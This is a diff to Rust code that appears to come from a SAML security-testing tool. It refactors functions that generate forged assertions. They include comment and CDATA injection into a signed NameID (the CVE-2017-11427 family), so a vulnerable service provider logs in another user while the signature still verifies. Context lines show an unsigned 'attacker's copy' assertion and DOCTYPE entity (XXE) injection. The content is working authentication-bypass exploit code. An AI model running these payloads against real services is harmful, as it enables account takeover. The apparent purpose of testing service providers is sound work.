@@ -31,14 +31,37 @@ fn element_at(parent: &mut Element, index: usize) -> Result<&mut Element, SamlId
     }
 }
 
-/// Sets the text of the Subject's NameID of `assertion`.
-fn set_name_id(assertion: &mut Element, name_id: &str) -> Result<(), SamlIdpError> {
-    let name = assertion
+/// The Subject's NameID of `assertion`.
+fn name_id_of(assertion: &mut Element) -> Result<&mut Element, SamlIdpError> {
+    assertion
         .child_mut(ASSERTION_NS, "Subject")
         .and_then(|s| s.child_mut(ASSERTION_NS, "NameID"))
-        .ok_or(SamlIdpError::Missing("a Subject NameID in the Assertion"))?;
-    name.set_text(name_id);
+        .ok_or(SamlIdpError::Missing("a Subject NameID in the Assertion"))
+}
+
+/// Sets the text of the Subject's NameID of `assertion`.
+fn set_name_id(assertion: &mut Element, name_id: &str) -> Result<(), SamlIdpError> {
+    name_id_of(assertion)?.set_text(name_id);
     Ok(())
+}
+
+/// `signed_xml` with the first Assertion's NameID rewritten as `visible_prefix` followed by the nodes `split`
+/// makes of the rest of its text (`None` when the rest cannot be written that way). Canonical XML reads the
+/// nodes back as the same characters, so the signature still verifies.
+fn split_name_id(
+    signed_xml: &str,
+    visible_prefix: &str,
+    split: impl FnOnce(&str) -> Option<Vec<Node>>,
+) -> Result<String, SamlIdpError> {
+    let mut doc = Document::parse(signed_xml)?;
+    let index = assertion_index(&doc)?;
+    let name = name_id_of(element_at(&mut doc.root, index)?)?;
+    let text = name.text();
+    let tail = text.strip_prefix(visible_prefix).filter(|rest| !rest.is_empty()).and_then(split).ok_or_else(|| {
+        SamlIdpError::NotApplicable(format!("the NameID {text:?} does not extend {visible_prefix:?}"))
+    })?;
+    name.children = std::iter::once(Node::Text(escape_text(visible_prefix))).chain(tail).collect();
+    Ok(doc.to_xml())
 }
 
 /// The attacker's copy of `assertion`: no signature, a fresh ID, `name_id` as the subject.
@@ -247,19 +270,9 @@ pub fn duplicate_assertion(signed_xml: &str, evil_name_id: &str) -> Result<Strin
 /// `admin@corp.example` (Duo Labs 2018: CVE-2017-11427 python-saml, CVE-2017-11428 ruby-saml, CVE-2017-11429
 /// saml2-js, CVE-2017-11430 OmniAuth-SAML).
 pub fn comment_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<String, SamlIdpError> {
-    let mut doc = Document::parse(signed_xml)?;
-    let index = assertion_index(&doc)?;
-    let name = element_at(&mut doc.root, index)?
-        .child_mut(ASSERTION_NS, "Subject")
-        .and_then(|s| s.child_mut(ASSERTION_NS, "NameID"))
-        .ok_or(SamlIdpError::Missing("a Subject NameID in the Assertion"))?;
-    let text = name.text();
-    let rest = text.strip_prefix(visible_prefix).filter(|rest| !rest.is_empty()).ok_or_else(|| {
-        SamlIdpError::NotApplicable(format!("the NameID {text:?} does not extend {visible_prefix:?}"))
-    })?;
-    name.children =
-        vec![Node::Text(escape_text(visible_prefix)), Node::Comment(String::new()), Node::Text(escape_text(rest))];
-    Ok(doc.to_xml())
+    split_name_id(signed_xml, visible_prefix, |rest| {
+        Some(vec![Node::Comment(String::new()), Node::Text(escape_text(rest))])
+    })
 }
 
 /// The signed NameID split into text and a CDATA section right after `visible_prefix`: `admin@corp.example` +
@@ -268,18 +281,10 @@ pub fn comment_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<Stri
 /// only the first text node logs in `admin@corp.example` — the comment-injection family of CVE-2017-11427, through
 /// a node type an SP that only strips comments misses.
 pub fn cdata_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<String, SamlIdpError> {
-    let mut doc = Document::parse(signed_xml)?;
-    let index = assertion_index(&doc)?;
-    let name = element_at(&mut doc.root, index)?
-        .child_mut(ASSERTION_NS, "Subject")
-        .and_then(|s| s.child_mut(ASSERTION_NS, "NameID"))
-        .ok_or(SamlIdpError::Missing("a Subject NameID in the Assertion"))?;
-    let text = name.text();
-    let rest = text.strip_prefix(visible_prefix).filter(|rest| !rest.is_empty() && !rest.contains("]]>")).ok_or_else(
-        || SamlIdpError::NotApplicable(format!("the NameID {text:?} does not extend {visible_prefix:?}")),
-    )?;
-    name.children = vec![Node::Text(escape_text(visible_prefix)), Node::CData(rest.to_owned())];
-    Ok(doc.to_xml())
+    // A CDATA section cannot hold its own end marker.
+    split_name_id(signed_xml, visible_prefix, |rest| {
+        (!rest.contains("]]>")).then(|| vec![Node::CData(rest.to_owned())])
+    })
 }
 
 /// Two root elements: the attacker's signed Assertion on its own (its namespaces declared on it, so exclusive
@@ -351,10 +356,7 @@ fn entity_value(text: &str) -> String {
 pub fn doctype(signed_xml: &str, dtd: &Dtd) -> Result<String, SamlIdpError> {
     let mut doc = Document::parse(signed_xml)?;
     let index = assertion_index(&doc)?;
-    let name = element_at(&mut doc.root, index)?
-        .child_mut(ASSERTION_NS, "Subject")
-        .and_then(|s| s.child_mut(ASSERTION_NS, "NameID"))
-        .ok_or(SamlIdpError::Missing("a Subject NameID in the Assertion"))?;
+    let name = name_id_of(element_at(&mut doc.root, index)?)?;
     let (entities, reference) = match dtd {
         Dtd::InternalEntity => (format!(r#"<!ENTITY idc "{}">"#, entity_value(&name.text())), "idc".to_owned()),
         Dtd::ExternalEntity { system } => {
